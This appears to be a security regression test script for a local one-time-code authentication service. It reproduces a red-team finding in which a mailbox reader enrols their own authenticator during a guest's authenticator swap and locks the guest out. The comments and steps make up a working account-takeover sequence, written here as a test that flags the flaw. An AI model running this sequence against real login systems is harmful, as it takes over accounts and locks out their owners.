#!/bin/bash
# Red team 6, finding 02: while a guest replaces their authenticator (/account/authenticator), whoever
# reads the guest's mailbox enrols theirs first and the guest is locked out.
# The swap resets the record (mfa_reset) and gives the guest a code-level session that "may only enrol".
# Nothing ties the next enrolment to that session: any code session of the address may enrol. The mailbox
# reader even gets the signal: the "set up a new authenticator app" mail comes seconds before. They ask
# /login for a code (a mail they read), open /mfa/setup, which replaces the guest's pending secret, and
# confirm. The guest's confirm then fails (401), the reload says enrolled and asks for a TOTP the guest
# does not have; the attacker passes /auth. No mail tells the guest an authenticator was enrolled.
# Works with the defaults (the mailbox reader needs one /login code mail).
cd "$(dirname "$0")/.." || exit 2
. tests/otpd/lib.sh
# DEFAULTS=1: otpd's default limits (the attack works the same; tried).
if [ "${DEFAULTS:-0}" = 1 ]; then setup; else setup "mail_interval = 0s" "mails_per_hour = 100"; fi
start_sink
start_otpd
G=guest@example.net
enrolled_guest $G
sed -n 's/.*<li><code>\([^<]*\)<.*/\1/p' "$T/pg" >"$T/recovery"
# The guest starts a swap: the emailed code, a recovery code, on to /mfa/setup with an enrol-only session.
[ "$(page "$BASE/account")" = 200 ] || fail account
csrf=$(csrf_of "$T/pg")
n0=$(mail_count)
[ "$(page --data "csrf=$csrf" "$BASE/account/authenticator/email")" = 200 ] || fail "swap mail step"
wait_mails $((n0 + 1)) 10 || fail "no swap code mail"
mcode=$(latest_code)
[ "$(page --data "csrf=$csrf&code=$(sed -n 1p "$T/recovery")&email_code=$mcode" "$BASE/account/authenticator")" = 303 ] ||
	fail "swap"
setup_page
G_NEW=$SECRET; G_CSRF=$SETUP_CSRF
cp "$T/jar" "$T/guest.jar"
# The mailbox reader: a /login code, the setup page, confirm.
: >"$T/jar"
s=$(html_login $G)
[ "$s" = 200 ] || { ok "login for the mailbox reader during the swap: $s"; exit 0; }
s=$(page "$BASE/mfa/setup")
[ "$s" = 200 ] || { ok "the mailbox reader's setup page: $s"; exit 0; }
A=$(sed -n 's/.*id="secret">\([^<]*\)<.*/\1/p' "$T/pg" | tr -d ' ')
r=$(mfa_post /mfa/setup "$(totp "$A")")
a=$(auth "$RESOURCE")
cp "$T/jar" "$T/attacker.jar"
# The guest confirms the secret on their screen.
cp "$T/guest.jar" "$T/jar"
g=$(page --data-urlencode "code=$(totp "$G_NEW")" --data "csrf=$G_CSRF" "$BASE/mfa/setup")
g2=$(page "$BASE/mfa/setup")
echo "attacker enrol $r, /auth $a; the guest's confirm $g, reload $g2 ($(tr -d '\r' <"$T/ph" | sed -n 's/^Location: //p'))"
ls "$T/sink" | wc -l | sed 's/^/mails in the sink: /'
if [ "$r" = 200 ] && [ "$a" = 200 ] && [ "$g" != 200 ]; then
	echo "ATTACK WORKS: the mailbox reader enrolled during the guest's swap; the guest is locked out" >&2
	exit 1
fi
ok refused
exit 0
